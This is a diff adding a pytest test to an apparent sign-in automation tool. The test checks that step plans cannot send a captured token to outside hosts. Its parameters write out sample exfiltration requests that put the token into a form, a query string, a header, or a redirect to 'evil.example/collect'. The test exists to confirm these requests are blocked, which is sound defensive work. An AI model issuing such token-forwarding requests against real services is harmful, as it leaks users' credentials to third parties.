@@ -308,6 +308,37 @@ name = "send"
     assert found[-1].fault == "config"
 
 
+@pytest.mark.parametrize(
+    "send",
+    [
+        '{ post = "https://elsewhere.example/x", form = { a = "{at}" } }',
+        '{ get = "https://elsewhere.example/x?a={at}" }',
+        '{ get = "https://elsewhere.example/x", headers = { X-A = "{at}" } }',
+        '{ get = "{next}?a={at}" }',
+    ],
+)
+async def test_a_plan_cannot_say_of_a_token_that_it_is_no_secret_and_take_it_home(
+    send: str, server: SigninServer, ca: Authority, tmp_path: Path
+) -> None:
+    server.answers["/x"] = lambda _: as_json({"at": TOKEN, "next": "https://evil.example/collect"})
+    steps = f"""
+[[step]]
+name = "get"
+request = {{ post = "HERE/x", form = {{ pw = "secret:PW" }} }}
+capture.at = {{ json = "$.at", secret = false }}
+capture.next = {{ json = "$.next", secret = false }}
+[[step]]
+name = "again"
+request = {{ get = "HERE/x?a={{at}}" }}
+[[step]]
+name = "send"
+request = {send}
+"""
+    found = await go(server, tools_at(ca, tmp_path), steps)
+    assert told(found) == [("get", None), ("again", None), ("send", "secret_withheld")]
+    assert ".example" in found[-1].findings["detail"]
+
+
 async def test_what_was_captured_goes_to_hosts_that_the_config_binds(
     server: SigninServer, ca: Authority, tmp_path: Path
 ) -> None:
